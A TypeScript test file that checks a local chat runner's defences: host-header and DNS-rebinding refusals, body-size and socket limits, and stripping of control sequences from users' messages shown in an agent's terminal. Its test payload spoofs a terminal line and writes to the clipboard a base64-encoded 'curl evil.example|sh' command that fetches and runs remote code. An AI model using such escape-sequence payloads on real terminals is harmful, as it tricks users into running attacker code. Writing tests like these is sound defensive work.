import { spawn } from 'node:child_process'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import WebSocket from 'ws'
import { SUBPROTOCOL, TOKEN_SUBPROTOCOL } from '../../lib/protocol/frames.ts'
import { connected, sendRaw } from './attack.ts'
import { call, testBot } from './client.ts'
import { eventually } from './eventually.ts'
import { runningWorld } from './running-world.ts'

/** The host name of a proxy that passes requests on. */
const PROXY_HOST = 'chat.example.org'
/** Control sequences that set the title and the clipboard, and rewrite a line. */
const SEQUENCES =
  '\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007\u001b[1A\u001b[2K\u001b[32m● agent Ana: fake line\u001b[0m\u202e'

let hosts: string | undefined
beforeAll(() => {
  hosts = process.env.INTERLUDE_HOSTS
  process.env.INTERLUDE_HOSTS = PROXY_HOST
})
afterAll(() => {
  if (hosts === undefined) delete process.env.INTERLUDE_HOSTS
  else process.env.INTERLUDE_HOSTS = hosts
})

describe('the local runner against strangers', () => {
  const world = runningWorld('sqlite')
  const own = () => new URL(world.dev.url).host
  const get = (path: string, host: string, more = '') =>
    sendRaw(world.dev.url, `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${more}Connection: close\r\n\r\n`)
  const statusOf = (answer: string) => answer.slice(0, 12)

  it('serves its local pages only to direct requests, and the API also behind a proxy', async () => {
    const pages = ['/_outbox', '/_outbox.json', '/_issuer/.well-known/jwks.json']
    for (const path of pages) {
      expect([path, statusOf(await get(path, own()))]).toEqual([path, 'HTTP/1.1 200'])
      for (const [host, more] of [
        [PROXY_HOST, ''],
        [own(), 'X-Forwarded-For: 203.0.113.7\r\n'],
        ['127.0.0.1:1', ''],
      ] as const)
        expect([path, host, statusOf(await get(path, host, more))]).toEqual([path, host, 'HTTP/1.1 404'])
    }
    const call = `POST /_demo/bot HTTP/1.1\r\nHost: ${PROXY_HOST}\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}`
    expect(statusOf(await sendRaw(world.dev.url, call))).toBe('HTTP/1.1 404')
    for (const path of ['/docs', '/openapi.json']) expect(statusOf(await get(path, PROXY_HOST))).toBe('HTTP/1.1 200')
  })

  it('refuses host names that are not configured with 421, as after DNS rebinding', async () => {
    for (const path of ['/_outbox.json', '/openapi.json', '/api/v1/bots/demo/conversations'])
      expect(statusOf(await get(path, 'evil.example'))).toBe('HTTP/1.1 421')
    const token = await sendRaw(
      world.dev.url,
      `POST /api/v1/bots/demo/users/token HTTP/1.1\r\nHost: evil.example:${new URL(world.dev.url).port}\r\nContent-Length: 0\r\n` +
        'Connection: close\r\n\r\n',
    )
    expect(statusOf(token)).toBe('HTTP/1.1 421')
    expect(token).toContain('INTERLUDE_HOSTS')
    const upgrade =
      'Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n'
    const handshake = (host: string) => sendRaw(world.dev.url, `GET /ws HTTP/1.1\r\nHost: ${host}\r\n${upgrade}\r\n`)
    expect(statusOf(await handshake('evil.example'))).toBe('HTTP/1.1 421')
    expect(statusOf(await handshake(PROXY_HOST))).toBe('HTTP/1.1 400')
  })

  it("limits the demo bot's request body, and logs no error for an aborted one", async () => {
    const head = `POST /_demo/bot HTTP/1.1\r\nHost: ${own()}\r\n`
    const told = await sendRaw(world.dev.url, `${head}Content-Length: 200000000\r\n\r\n`)
    expect(statusOf(told)).toBe('HTTP/1.1 413')
    const socket = await connected(world.dev.url)
    let answer = ''
    socket.on('data', chunk => {
      answer += chunk
    })
    const piece = `10000\r\n${'x'.repeat(65_536)}\r\n`
    socket.write(`${head}Transfer-Encoding: chunked\r\n\r\n`)
    let pieces = 0
    for (; pieces < 1_000 && !socket.destroyed && answer === ''; pieces++) {
      if (!socket.write(piece)) await Promise.race([new Promise(resolve => socket.once('drain', resolve)), sleep(100)])
      await sleep(0)
    }
    await eventually('the end of the connection', () => socket.destroyed)
    expect(pieces).toBeLessThan(1_000)

    for (let n = 0; n < 5; n++) {
      const leaving = await connected(world.dev.url)
      leaving.write(`${head}Content-Length: 100\r\n\r\n{`)
      await get('/docs', own())
      leaving.resetAndDestroy()
    }
    await get('/docs', own())
    expect(world.interlude.output()).not.toContain('the gateway failed')
  })

  it('answers requests that offer h2c, as curl and Java do, in HTTP/1.1', async () => {
    const offer = 'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n'
    const answer = await sendRaw(
      world.dev.url,
      `GET /openapi.json HTTP/1.1\r\nHost: ${own()}\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n${offer}\r\n`,
      1_000,
    )
    expect(statusOf(answer)).toBe('HTTP/1.1 200')
  })

  it('limits an end user to 32 sockets, and accepts other users and agents', async () => {
    const aToken = async () => {
      const url = `${world.dev.url}/api/v1/bots/demo/users/token`
      return (await call<{ token: string }>(url, { method: 'POST' })).body.token
    }
    const sockets: WebSocket[] = []
    const attempt = (token: string, query = '') =>
      new Promise<number>(resolve => {
        const socket = new WebSocket(`${world.dev.socketUrl}${query}`, [SUBPROTOCOL, `${TOKEN_SUBPROTOCOL}${token}`])
        sockets.push(socket)
        socket.on('error', () => {})
        socket.once('open', () => resolve(101))
        socket.once('unexpected-response', (_, response) => resolve(response.statusCode ?? 0))
      })
    const token = await aToken()
    const statuses: number[] = []
    for (let n = 0; n < 60; n++) statuses.push(await attempt(token))
    expect(statuses).toEqual([...Array(32).fill(101), ...Array(28).fill(429)])
    expect(await attempt(await aToken())).toBe(101)
    for (let n = 0; n < 40; n++) expect(await attempt(world.dev.agentToken, '?bot=demo')).toBe(101)
    for (const socket of sockets) socket.terminate()
  })

  it("keeps users' control sequences out of an agent's terminal", async () => {
    const bot = testBot(`${world.dev.url}/api/v1/bots/demo`, 'demo', world.dev.botKey)
    const agent = spawn('npm', ['run', '--silent', 'agent'], {
      detached: true,
      stdio: ['ignore', 'pipe', 'pipe'],
      env: { ...process.env, INTERLUDE_DATA: world.interlude.data },
    })
    let shown = ''
    agent.stdout.setEncoding('utf8').on('data', chunk => {
      shown += chunk
    })
    const gone = new Promise(resolve => agent.once('close', resolve))
    try {
      await eventually('an agent who follows', () => shown.includes('connected to'))
      await bot.pauseUser('mallory')
      await bot.receive('mallory', { text: SEQUENCES, user: { fullName: SEQUENCES } })
      // Once from the inbox and once as an entry, because the client opens the conversation by itself.
      await eventually('the words', () => shown.split('fake line').length > 2, { soFar: () => shown })
    } finally {
      process.kill(-(agent.pid ?? 0), 'SIGTERM')
      await gone
    }
    expect(shown.replaceAll('\n', '')).not.toMatch(/[^\P{Cc}\t]|\p{Bidi_Control}/u)
  })
})
